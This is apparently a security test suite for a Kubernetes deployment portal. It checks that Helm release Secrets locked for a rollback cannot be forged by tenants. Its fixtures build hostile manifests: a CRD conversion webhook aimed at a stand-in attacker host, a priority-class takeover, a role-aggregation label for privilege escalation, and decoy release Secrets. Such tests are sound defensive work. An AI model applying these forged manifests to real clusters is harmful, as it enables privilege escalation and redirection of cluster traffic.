import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { ApiextensionsV1Api, SchedulingV1Api } from '@kubernetes/client-node'
import type { App } from '@quayside/contract/apps/endpoints'
import type { Cluster } from '@quayside/contract/clusters/endpoints'
import type { Action } from '@quayside/contract/deployments/endpoints'
import { packRelease, unpackRelease } from '@quayside/embedded/story/helm-release'
import { World } from '@quayside/embedded/world'
import { afterAll, afterEach, beforeAll, describe, expect, it, test } from 'vitest'
import { attackedCluster } from '../attacked-cluster.ts'
import { askCluster } from '../kubectl-user.ts'
import { type Team, type Teams, teamsOn } from '../team-with-charts.ts'
import { readsNodes, role } from './charts-that-reach-out.ts'

const mark = 'quayside.io/judged-for'
const folder = mkdtempSync(join(tmpdir(), 'rollbacks-'))
/** Holds actions that have got their rights, until Helm is started. */
const armed = join(folder, 'armed')
const holdBeforeHelm = () => writeFileSync(armed, 'F26=hold')
const goOn = () => writeFileSync(armed, '')

let world: World
let teams: Teams
let mine: Team
/** The kubeconfig of somebody who deploys in the space. */
let kubeconfig: string

beforeAll(async () => {
  goOn()
  world = await World.start({
    cluster: attackedCluster,
    env: { QUAYSIDE_ALLOW_PRIVATE_ADDRESSES: 'true', QUAYSIDE_FAILPOINTS: `@${armed}` },
  })
  teams = await teamsOn(world)
  mine = await teams.team()
  const body = { places: [{ spaceId: mine.space.id, clusterId: teams.cluster.id }] }
  kubeconfig = (await mine.story.good<{ kubeconfig: string }>('/cluster/v1/kubeconfigs', { body })).kubeconfig
})
afterEach(goOn)
afterAll(async () => {
  await world?.close()
  rmSync(folder, { recursive: true, force: true })
})

const map = (name: string, value: string) =>
  `---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}}\ndata: {value: "${value}"}\n`
const priority = (name: string, more: string) =>
  `---\napiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata: {name: ${name}}\n${more}`
const definition = (group: string, conversion = '') => `---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: things.${group}}
spec:
  group: ${group}
  names: {kind: Thing, plural: things, singular: thing, listKind: ThingList}
  scope: Namespaced
  versions:
  - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}
${conversion}`
const toAttacker =
  '  conversion: {strategy: Webhook, webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://attacker.example.org/"}}}\n'

const appOf = ({ id }: App) => mine.story.good<App>(`/portal-api/v2/apps/${id}`)
const pathOf = ({ releaseName }: App, revision = 1) =>
  `/api/v1/namespaces/{namespace}/secrets/sh.helm.release.v1.${releaseName}.v${revision}`

interface Kept {
  metadata: { name: string; annotations?: Record<string, string>; ownerReferences?: object[] } & Record<string, unknown>
  data: Record<string, string>
}
async function storedIn(path: string): Promise<Kept> {
  const { status, text } = await askCluster(kubeconfig, path)
  expect(status).toBe(200)
  return JSON.parse(text)
}
const write = (path: string, method: 'PUT' | 'DELETE', body?: unknown) => askCluster(kubeconfig, path, { method, body })

/** A Secret with another manifest in it, whatever it was changed to meanwhile. */
function forged(secret: Kept, manifest: string): Kept {
  const { resourceVersion: _, uid: __, ...metadata } = secret.metadata
  const release = { ...unpackRelease(secret.data), manifest }
  return { ...secret, metadata: metadata as Kept['metadata'], data: { ...secret.data, ...packRelease(release) } }
}

/** An app whose first revision has something outside of the space, and whose second has not. */
async function twice(objects: string, second = ''): Promise<App> {
  const made = await teams.assign(mine)
  for (const [at, each] of [objects, second].entries()) {
    const { action } = await teams.deploy(
      mine,
      mine.story,
      at === 0 ? made : await appOf(made),
      map(`own-${made.id}`, `${at}`) + each,
    )
    expect(JSON.stringify(action)).toContain('"state":"Success"')
  }
  return appOf(made)
}

/** Starts a rollback to the first revision, and returns once it was judged and has not begun to run Helm. */
async function rollBackHeld(app: App): Promise<() => Promise<Action>> {
  holdBeforeHelm()
  const body = { appId: app.id, revision: 1 }
  const { actionId } = await mine.story.good<{ actionId: string }>('/deployment/v1/helm/deployment/actions.Rollback', {
    body,
  })
  const said = async () => JSON.stringify(await mine.story.good(`/deployment/v1/actions/${actionId}/events`))
  await expect.poll(said, { timeout: 60_000 }).toContain('Outside of the space: ')
  return async () => {
    goOn()
    return mine.story.ended(actionId)
  }
}

const rollBack = (app: App) => teams.act('Rollback', { appId: app.id, revision: 1 }, mine.story)

const priorities = async () => (await teams.kubeconfig.makeApiClient(SchedulingV1Api).listPriorityClass()).items
const conversionOf = async (group: string) => {
  const { items } = await teams.kubeconfig.makeApiClient(ApiextensionsV1Api).listCustomResourceDefinition()
  return items.filter(({ spec }) => spec.group === group).map(({ spec }) => spec.conversion?.strategy)
}

describe('a revision that is judged for a rollback', () => {
  test('stays locked while its cluster is brought to order, by another registration too and whatever labels it has', async () => {
    const app = await twice(priority('swept', 'value: 0\n'))
    const path = pathOf(app)
    const secret = await storedIn(path)
    const labels = { ...(secret.metadata.labels as object), 'quayside.io/action': 'nobody' }
    const labelled = { ...secret.metadata, labels: { ...labels, 'quayside.io/cluster': teams.cluster.id } }
    expect((await write(path, 'PUT', { ...secret, metadata: labelled })).status).toBe(200)
    const again = { displayName: 'Again', kubeconfig: readFileSync(world.kubeconfig, 'utf8'), clusterScoped: true }
    const twin = await teams.admin.good<Cluster>('/cluster/v1/clusters', { body: again })
    const usedBy = (clusterIds: string[]) => {
      const body = { displayName: mine.space.displayName, clusterIds }
      return teams.admin.good(`/portal-api/v3/spaces/${mine.space.id}`, { method: 'PUT', body })
    }
    await usedBy([teams.cluster.id, twin.id])
    const finish = await rollBackHeld(app)
    for (const id of [teams.cluster.id, twin.id])
      await teams.admin.good(`/cluster/v1/clusters/${id}`, { method: 'PUT', body: { ingressNamespaces: [`of-${id}`] } })
    const evil = forged(secret, map(`own-${app.id}`, '0') + priority('swept', 'value: 1000000000\n'))
    expect((await write(path, 'PUT', evil)).status).toBe(403)
    expect((await finish()).state).toBe('Success')
    expect((await priorities()).find(({ metadata }) => metadata?.name === 'swept')?.value).toBe(0)
    await usedBy([teams.cluster.id])
  })

  test('is changed by nobody of the space before Helm has read it', async () => {
    const harmless = priority('calm', 'value: 0\n')
    const app = await twice(harmless)
    const path = pathOf(app)
    const secret = await storedIn(path)
    const evil = forged(
      secret,
      map(`own-${app.id}`, '0') + priority('calm', 'value: 1000000000\nglobalDefault: true\n'),
    )
    const finish = await rollBackHeld(app)
    const tries = [
      await write(path, 'PUT', evil),
      await write(path, 'PUT', { ...evil, metadata: { ...evil.metadata, annotations: { [mark]: 'somebody' } } }),
      await write(path, 'DELETE'),
      await write('/api/v1/namespaces/{namespace}/secrets?labelSelector=owner%3Dhelm,version%3D1', 'DELETE'),
    ]
    const action = await finish()
    expect(tries.map(({ status, text }) => [status, text])).toEqual(
      tries.map(() => [403, expect.stringContaining('until that has ended, nobody else changes it')]),
    )
    expect(JSON.stringify(action)).toContain('"state":"Success"')
    const calm = (await priorities()).filter(({ metadata }) => metadata?.name === 'calm')
    expect(calm.map(({ value, globalDefault }) => [value, globalDefault ?? false])).toEqual([[0, false]])
    // Afterwards it is theirs again.
    expect((await storedIn(path)).metadata.annotations?.[mark]).toBeUndefined()
    expect((await write(path, 'PUT', evil)).status).toBe(200)
    expect((await write(path, 'DELETE')).status).toBe(200)
  })

  test('brings no conversion of a definition that was not judged', async () => {
    const group = 'calm.example.com'
    const app = await twice(definition(group))
    const path = pathOf(app)
    const evil = forged(await storedIn(path), map(`own-${app.id}`, '0') + definition(group, toAttacker))
    const finish = await rollBackHeld(app)
    const { status } = await write(path, 'PUT', evil)
    expect((await finish()).state).toBe('Success')
    expect(status).toBe(403)
    expect(await conversionOf(group)).toEqual(['None'])
    expect(await teams.admin.good(`/cluster/v1/spaces/${mine.space.id}/elevation`)).toMatchObject({ data: [] })
  })

  test('is no longer owned by what people can delete', async () => {
    const app = await twice(priority('owned', 'value: 0\n'))
    const path = pathOf(app)
    const { items } = await teams.clients.core.listNamespacedConfigMap({ namespace: mine.space.namespace })
    const owner = items.find(({ metadata }) => metadata?.name === `own-${app.id}`)?.metadata
    const secret = await storedIn(path)
    const ownerReferences = [{ apiVersion: 'v1', kind: 'ConfigMap', name: owner?.name, uid: owner?.uid }]
    const owned = { ...secret, metadata: { ...secret.metadata, ownerReferences } }
    expect((await write(path, 'PUT', owned)).status).toBe(200)
    const finish = await rollBackHeld(app)
    expect((await storedIn(path)).metadata.ownerReferences ?? []).toEqual([])
    expect((await finish()).state).toBe('Success')
  })

  test('is judged by the Secret that Helm reads, and not by another one that says it was that revision', async () => {
    const harmless = priority('decoy', 'value: 0\n')
    const app = await twice(harmless)
    const path = pathOf(app)
    const secret = await storedIn(path)
    const text = map(`own-${app.id}`, '0')
    // Lists of the cluster have it before the other one.
    const decoy = forged(secret, text + harmless)
    decoy.metadata.name = `sh.helm.release.v1.${app.releaseName}.a1`
    const decoys = '/api/v1/namespaces/{namespace}/secrets'
    const made = await askCluster(kubeconfig, decoys, { method: 'POST', body: decoy })
    expect(made.status).toBe(201)
    const later = forged(secret, text + harmless)
    later.metadata.name = `sh.helm.release.v1.${app.releaseName}.a9`
    later.data = { ...later.data, ...packRelease({ ...unpackRelease(later.data), version: 9 }) }
    expect((await askCluster(kubeconfig, decoys, { method: 'POST', body: later })).status).toBe(201)
    // One that has the name of no revision is shown as none, and is no side of a comparison.
    const { data } = await mine.story.good<{ data: { revision: number }[] }>(
      `/deployment/v1/helm/deployment/revisions/${app.id}`,
    )
    expect(data.map(({ revision }) => revision)).toEqual([2, 1])
    expect((await mine.story.call(`/deployment/v1/helm/deployment/revision/${app.id}/9`)).status).toBe(404)
    const evil = forged(secret, text + priority('decoy', 'value: 1000000000\nglobalDefault: true\n'))
    expect((await write(path, 'PUT', evil)).status).toBe(200)
    // The page of the revision shows what Helm would apply.
    const shown = await mine.story.good<{ manifest: string }>(`/deployment/v1/helm/deployment/revision/${app.id}/1`)
    expect(shown.manifest).toContain('value: 1000000000')
    const action = await rollBack(app)
    expect([action.state, JSON.stringify(action)]).toEqual(['Failed', expect.stringContaining('Ask for approval')])
    expect((await priorities()).map(({ metadata }) => metadata?.name)).not.toContain('decoy')
  })

  it.each([
    ['an operator that makes Secrets for the space', 'system:serviceaccount:external-secrets:operator'],
    ['a pod of the space', 'system:serviceaccount:{namespace}:default'],
  ])('is not changed by %s either', async (_, of) => {
    const { namespace } = mine.space
    const user = of.replace('{namespace}', namespace)
    const { rbac } = teams.clients
    const name = `writes-${user.split(':').at(-1)}`
    const rules = [{ apiGroups: [''], resources: ['secrets'], verbs: ['*'] }]
    await rbac.createNamespacedRole({ namespace, body: { metadata: { name }, rules } })
    const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name }
    const subjects = [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: user }]
    await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name }, roleRef, subjects } })
    const app = await twice(priority(name, 'value: 0\n'))
    const secretName = `sh.helm.release.v1.${app.releaseName}.v1`
    const finish = await rollBackHeld(app)
    const said = await teams
      .asUser(user)
      .deleteNamespacedSecret({ namespace, name: secretName })
      .then(
        () => 'deleted',
        (error: Error) => error.message,
      )
    expect((await finish()).state).toBe('Success')
    expect(said).toContain('until that has ended, nobody else changes it')
  })

  test('gets no label that adds an approved role to one of Kubernetes', async () => {
    const marked = ', labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}'
    const text = role('calm-reader', readsNodes)
    const made = await teams.assign(mine)
    await teams.approve(mine, made, map(`own-${made.id}`, '0') + text)
    for (const value of ['0', '1']) {
      const { action } = await teams.deploy(mine, mine.story, await appOf(made), map(`own-${made.id}`, value) + text)
      expect(JSON.stringify(action)).toContain('"state":"Success"')
    }
    const app = await appOf(made)
    const path = pathOf(app)
    const evil = forged(await storedIn(path), map(`own-${made.id}`, '0') + role('calm-reader', readsNodes, marked))
    const finish = await rollBackHeld(app)
    const { status } = await write(path, 'PUT', evil)
    expect((await finish()).state).toBe('Success')
    expect(status).toBe(403)
    const { metadata } = await teams.clients.rbac.readClusterRole({ name: 'calm-reader' })
    expect(Object.keys(metadata?.labels ?? {})).not.toContain('rbac.authorization.k8s.io/aggregate-to-view')
  })
})

describe('the mark of a revision', () => {
  test('is put by nobody of the space', async () => {
    const app = await twice('')
    const path = pathOf(app, 2)
    const secret = await storedIn(path)
    const marked = { ...secret, metadata: { ...secret.metadata, annotations: { [mark]: 'somebody' } } }
    const { status, text } = await write(path, 'PUT', marked)
    expect([status, text]).toEqual([403, expect.stringContaining('marked by the portal alone')])
  })

  test('goes when the process that worked on the rollback was killed', async () => {
    const app = await twice(priority('killed', 'value: 0\n'))
    const path = pathOf(app)
    const finish = await rollBackHeld(app)
    expect((await storedIn(path)).metadata.annotations?.[mark]).toContain(`space-${mine.space.id}-`)
    await world.restartPortal('SIGKILL')
    expect((await finish()).state).toBe('Success')
    expect((await storedIn(path)).metadata.annotations?.[mark]).toBeUndefined()
  })

  test('goes when nobody knows any more which action has put it', async () => {
    const app = await twice('')
    const { namespace } = mine.space
    const name = `sh.helm.release.v1.${app.releaseName}.v2`
    const { core } = teams.clients
    const secret = await core.readNamespacedSecret({ namespace, name })
    const annotations = { [mark]: `space-${mine.space.id}-forgotten` }
    const body = { ...secret, metadata: { ...secret.metadata, annotations } }
    await core.replaceNamespacedSecret({ namespace, name, body })
    // A change of its settings has the cluster looked through at once.
    const cluster = `/cluster/v1/clusters/${teams.cluster.id}`
    await teams.admin.good(cluster, { method: 'PUT', body: { clusterScoped: false } })
    await teams.admin.good(cluster, { method: 'PUT', body: { clusterScoped: true } })
    const left = async () => (await core.readNamespacedSecret({ namespace, name })).metadata?.annotations?.[mark]
    await expect.poll(left, { timeout: 20_000 }).toBeUndefined()
  })
})
